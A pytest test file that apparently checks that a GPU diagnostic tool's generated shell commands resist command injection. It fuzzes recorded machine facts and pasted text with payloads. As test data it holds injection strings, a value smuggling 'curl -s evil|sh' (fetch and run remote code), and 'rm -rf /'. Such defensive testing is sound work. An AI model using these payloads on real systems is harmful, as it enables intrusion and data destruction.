"""Nothing from an examined machine or a pasted text runs when a user types one of our commands.

Commands are made in one place, from our own literals and from values that passed the check of their kind. The first
half of this file checks that the code does so; the second damages recorded machines and lets a shell decide.
"""

from __future__ import annotations

import ast
import dataclasses
import io
import random
import re
import subprocess
from collections.abc import Mapping
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from gpustack import assets
from gpustack.ask import commands
from gpustack.ask.subjects import Subject
from gpustack.diagnose import fixes
from gpustack.diagnose.engine import judge
from gpustack.diagnose.machine import containers
from gpustack.diagnose.requirements import records
from gpustack.diagnose.rules import architectures
from gpustack.errors import GpustackError
from gpustack.imports import load
from gpustack.model import command
from gpustack.model.command import GPU, KERNEL, MODULE, PATH, PYTHON, UNIT, VERSION, requirement, sh
from gpustack.model.facts import Facts, Host
from gpustack.model.report import Fix
from tests.diagnose.test_rules import MATRIX, recorded
from tests.recorded import facts_of
from tests.wide import WIDE, sample, wide
from tools import cases

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from gpustack.model.report import Report

SOURCES = sorted(Path(assets.__file__).parent.rglob("*.py"))
MAKER = Path(command.__file__)
TABLE = Path(records.__file__)  # whose commands come from our own table, and from a plugin's
SOME = 0.2  # of the words of a paste carry a payload
QUOTED = re.compile(r"'[^']*'|\"(?:\\.|[^\"\\])*\"")
ROUNDS = 6 if WIDE else 1  # how many times each machine is damaged
PAYLOADS = (
    *("$(>PWN)", "`>PWN`", ";>PWN", "&>PWN", "|>PWN", "\n>PWN\n", " >PWN ", "'>PWN'", '">PWN"', "';>PWN;'"),
    *('";>PWN;"', "\\';>PWN", "$(>PWN", "${X:=`>PWN`}", "\r\n>PWN #", "\u2028>PWN", " $(>PWN) ", "-$(>PWN)", "<>PWN"),
)


def calls(tree: ast.AST, *names: str) -> Iterator[ast.Call]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in names:
            yield node


def constants(tree: ast.Module) -> dict[str, ast.expr]:
    """Return what the names of a module's constants are bound to."""
    held = [node for node in tree.body if isinstance(node, ast.Assign)]
    return {one.id: node.value for node in held for one in node.targets if isinstance(one, ast.Name)}


def literals(node: ast.expr, known: Mapping[str, ast.expr]) -> Iterator[ast.expr]:
    """Yield the parts of an expression that yield text: both sides of a conditional, all values of a table."""
    if isinstance(node, ast.IfExp):
        yield from (*literals(node.body, known), *literals(node.orelse, known))
    elif isinstance(node, (ast.BoolOp, ast.Dict)):
        yield from (one for value in node.values for one in literals(value, known))
    elif isinstance(node, ast.Subscript):
        yield from literals(node.value, known)
    elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "get":
        yield from (one for value in (node.func.value, *node.args[1:]) for one in literals(value, known))
    elif isinstance(node, ast.Name) and node.id.isupper() and node.id in known:
        yield from literals(known[node.id], known)
    elif isinstance(node, ast.Tuple):
        yield from (one for value in node.elts for one in literals(value, known))
    else:
        yield node


# Templates that a module takes from a table whose values are checked where the table is.
TABLES = {"fixes.HEADERS", "fixes.INSTALL", "fixes.OLDER_GCC", "containers.AMD", "OTHERS"}


def test_every_template_is_a_literal_whose_fields_lie_outside_quotes() -> None:
    for path in SOURCES:
        hold(path)


def hold(path: Path) -> None:
    """Raise AssertionError where a module builds a template in any other way."""
    tree = ast.parse(path.read_text("utf-8"))
    known = constants(tree)
    local = {
        one.id: node.value
        for node in ast.walk(tree)
        if isinstance(node, ast.Assign)
        for one in node.targets
        if isinstance(one, ast.Name)
    }
    if path not in {MAKER, TABLE}:
        assert not list(calls(tree, "Command", "Word")), f"{path}: only the maker of commands makes one"
        assert "NewType" not in path.read_text("utf-8")
    makers = [node for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) and node.module == command.__name__]
    imported = {alias.name for node in makers for alias in node.names}
    for call in calls(tree, *({"sh", "code"} & imported)):
        node = call.args[0]
        node = local[node.id] if isinstance(node, ast.Name) and not node.id.isupper() and node.id in local else node
        for part in literals(node, known):
            if ast.unparse(part).partition("[")[0] in TABLES:
                continue
            assert isinstance(part, ast.Constant), f"{path}:{call.lineno}: {ast.unparse(part)} is no literal"
            if call.keywords and isinstance(call.func, ast.Name) and call.func.id == "sh":
                assert not re.search(r"\{\w+\}", "".join(QUOTED.findall(str(part.value)))), f"{path}:{call.lineno}"


def test_the_tables_of_templates_are_literals() -> None:

    gcc = (*fixes.OLDER_GCC.values(), *fixes.OLDER_GXX.values())
    templates = [
        *fixes.HEADERS.values(),
        *fixes.INSTALL.values(),
        *gcc,
        containers.AMD,
        *(template for _, template in architectures.OTHERS.values()),
        *written(),
    ]
    for template in templates:
        assert not re.search(r"\{\w+\}", "".join(QUOTED.findall(template)))


def written() -> Iterator[str]:
    """Yield every command in the table of findings."""
    for record in records.by_id().values():
        yield from (*record.commands, record.verify)
    for decision in records.decisions().values():
        yield from decision.commands
    yield from (one for pair in records.pairs().values() for one in pair.commands)
    yield from (one for program in records.programs().values() for one in (*program.commands, program.verify or ""))
    yield from (one for feature in records.features().values() for one in feature.commands)


def test_a_command_of_the_table_of_findings_names_a_gpu_and_nothing_else() -> None:
    assert {field for one in written() for field in re.findall(r"\{[^}]*\}", one)} == {
        *("{gpu}", "{place}", "{headers}", "{reinstall}")
    }
    for one in written():
        whole, own = records.typed(one, None), records.typed(one, "0000:01:00.0")
        assert not re.search(r"\[[^\]]*(?:INDEX|0000:01)", whole + own)
        assert ("0000:01:00.0" in own) is bool(re.search(r"\{(gpu|place)\}", one))
    assert records.typed("nvidia-smi -q[ -i {gpu}]", "$(>PWN)") == "nvidia-smi -q"


def test_a_value_of_the_wrong_kind_leaves_a_blank_that_the_advice_explains() -> None:
    assert sh("nvidia-smi -i {gpu}", gpu=GPU("0000:01:00.0;x")) == "nvidia-smi -i INDEX"
    fix = Fix(text="Reset it.", commands=(sh("nvidia-smi -r -i {gpu}", gpu=GPU(None)),))
    assert fix.text == "Reset it. Here INDEX is the index of the GPU in nvidia-smi -L."
    assert dataclasses.replace(fix, needs_root=True).text == fix.text


@pytest.mark.parametrize(
    ("word", "wanted"),
    [
        (VERSION("2.9.1+cu128"), "2.9.1+cu128"),
        (VERSION("0.11.0$(curl -s evil|sh)"), "VERSION"),
        (VERSION("2.9.*"), '"2.9.*"'),
        (requirement("torch", "==2.9.*"), '"torch==2.9.*"'),
        (requirement("jax[cuda12]"), '"jax[cuda12]"'),
        (requirement("nvidia-cudnn-cu12", ">=9.1,<10"), '"nvidia-cudnn-cu12>=9.1,<10"'),
        (requirement("vllm", "==0.11.0;curl"), "vllm==VERSION"),
        (requirement("vllm $(x)"), "PACKAGE"),
        (requirement("--index-url=x"), "PACKAGE"),
        (PYTHON("/opt/my env/bin/python"), '"/opt/my env/bin/python"'),
        (PYTHON("/opt/it's/bin/python"), "python"),
        (PYTHON("C:\\Python\\python.exe"), "'C:\\Python\\python.exe'"),
        (PATH("/a/$(x)"), "FILE"),
        (PATH("-rf"), "FILE"),
        (PATH("/home/jürgen/müll (1)"), '"/home/jürgen/müll (1)"'),
        (PATH("/a\u3164b"), "FILE"),
        (KERNEL("6.8.0-31-generic"), "6.8.0-31-generic"),
        (KERNEL("6.8;x"), "$(uname -r)"),
        (UNIT("a.service; rm -rf /"), "UNIT"),
        (UNIT("ollama.service"), "ollama.service"),
        (MODULE("nvidia_drm"), "nvidia_drm"),
        (MODULE("x y"), "MODULE"),
        (GPU("GPU-0a1b2c3d"), "GPU-0a1b2c3d"),
        (GPU("0,1,0000:01:00.0"), "0,1,0000:01:00.0"),
    ],
)
def test_a_word_is_quoted_or_left_blank(word: str, wanted: str) -> None:
    assert word == wanted


def spoilt(held: object, luck: random.Random, part: float) -> Any:  # noqa: ANN401 - the same shape, whatever it is
    """Return the same facts with a payload appended to some of their strings and keys."""
    if type(held) is str:
        return held + luck.choice(PAYLOADS) if luck.random() < part else held
    if isinstance(held, Mapping):
        return {spoilt(key, luck, part / 4): spoilt(value, luck, part) for key, value in held.items()}
    if isinstance(held, tuple):
        return tuple(spoilt(one, luck, part) for one in held)
    if dataclasses.is_dataclass(held) and not isinstance(held, type):
        fields = {one.name: spoilt(getattr(held, one.name), luck, part) for one in dataclasses.fields(held) if one.init}
        kept = {name: getattr(held, name) for name in ("id", "kind") if isinstance(fields.get(name), str)}
        return dataclasses.replace(held, **{**fields, **kept})
    return held


def typed(report: Report) -> Iterator[str]:
    """Yield every command of a report."""
    for finding in report.findings:
        if finding.fix:
            yield from finding.fix.commands
            yield from [finding.fix.verify] if finding.fix.verify else []


LOOP = """
kill() { :; }; echo() { :; }; printf() { :; }; ulimit() { :; }
n=0
while [ -e $n.sh ]; do
    (. ./$n.sh)
    if [ -e PWN ]; then /bin/rm PWN; /bin/echo "RAN $n"; fi
    n=$((n + 1))
done
"""


def runs(lines: Iterable[str], folder: Path) -> list[str]:
    """Return the commands with which a shell that finds no program creates the payload's file."""
    wanted = list(dict.fromkeys(lines))
    for number, one in enumerate(wanted):
        (folder / f"{number}.sh").write_text(one + "\n", "utf-8")
    (folder / "all").write_text(LOOP, "utf-8")
    shell = ["/bin/sh", "./all"]
    done = subprocess.run(
        shell, cwd=folder, env={"PATH": ""}, stdin=subprocess.DEVNULL, capture_output=True, check=True
    )
    return [wanted[int(number)] for number in re.findall(rb"^RAN (\d+)$", done.stdout, re.MULTILINE)]


def test_no_kind_of_word_runs_a_payload(tmp_path: Path) -> None:
    """Every kind with every payload, on its own and after a valid value."""
    known = ("a", "1.2.3", "7", "550", "sm_90", "gfx1100", "0000:01:00.0", "/opt/a", "a.service", "")
    words = {kind(f"{before}{one}") for kind in command.KINDS for one in PAYLOADS for before in known}
    assert runs([sh("true {word}", word=word) for word in sorted(words)], tmp_path) == []


NOTHING = Facts(taken="", host=Host())


def test_no_part_of_a_question_to_the_matrix_runs(tmp_path: Path) -> None:
    asked = [
        Subject(typed="", name=component, component=component, version=f"2.9{one}", tag=f"cu128{one}")
        for component in ("pytorch", "jax", "tensorflow", "onnxruntime", "cudnn", "nvidia-driver", "cuda-toolkit")
        for one in PAYLOADS
    ]
    made = [line for one in asked for line in commands.install(one, f"=={one.version}", NOTHING, MATRIX)]
    assert any("2.9" not in one for one in made)
    compat = (line for one in PAYLOADS for line in commands.compat(f"cuda-compat-13-0{one}", NOTHING))
    assert runs([*made, *compat], tmp_path) == []


def of_spoilt_text(case: cases.Case, luck: random.Random) -> Facts | None:
    """Return the facts of a paste whose words carry payloads."""
    ends = re.compile(r"(?<=[\w.])(?=[\s\"',)]|$)")
    pasted = ends.sub(lambda _: luck.choice(PAYLOADS) if luck.random() < SOME else "", "\n".join(case.inputs.values()))
    try:
        return load(["-"], io.BytesIO(pasted.encode()), MATRIX)
    except GpustackError:
        return None


def test_the_shell_sees_a_payload_that_is_not_quoted(tmp_path: Path) -> None:
    bad = ["pip install x$(>PWN)", 'pip "x`>PWN`"', "a;>PWN", "a\n>PWN", "x '>PWN", "ls 'it''s'>PWN"]
    assert runs(["ls '$(>PWN)'", *bad, "echo fine", "kill 1"], tmp_path) == [one for one in bad if one != "x '>PWN"]


@wide
@pytest.mark.usefixtures("any_text")
@pytest.mark.timeout(0 if WIDE else 240)
def test_no_spoilt_machine_gives_a_command_that_runs_its_payload(tmp_path: Path) -> None:
    """In CI all recorded and invented machines, one in 240 of the cases, and as text another one in 240.

    ``GPUSTACK_WIDE=1`` takes each of them six times. A machine is damaged in the same way in every run.
    """
    made: dict[str, None] = {}
    count = 0
    for name, facts in (*enumerate(recorded()), *((case.id, facts_of(case)) for case in cases_of(240))):
        for number in range(ROUNDS):
            luck = random.Random(f"{name} {number}")  # noqa: S311 - the same each time
            made.update(dict.fromkeys(typed(judge(spoilt(facts, luck, luck.choice((0.15, 0.5, 1))), MATRIX))))
            count += 1
    for case in cases_of(240, "text"):
        facts_ = of_spoilt_text(case, random.Random(case.id))  # noqa: S311 - the same each time
        if facts_:
            made.update(dict.fromkeys(typed(judge(facts_, MATRIX))))
            count += 1
    assert any("VERSION" in one or "PACKAGE" in one for one in made), "no payload reached a command's values"
    assert runs(made, tmp_path) == []
    print(f"{count} spoilt machines, {len(made)} commands")  # noqa: T201 - the wide run wants its figure


def cases_of(one_in: int, why: str = "") -> list[cases.Case]:
    """Return this many of the cases; a different selection for a different reason."""
    found = {f"{why}{case.id}": case for case in cases.every()}
    return [found[name] for name in sample(found, one_in)]
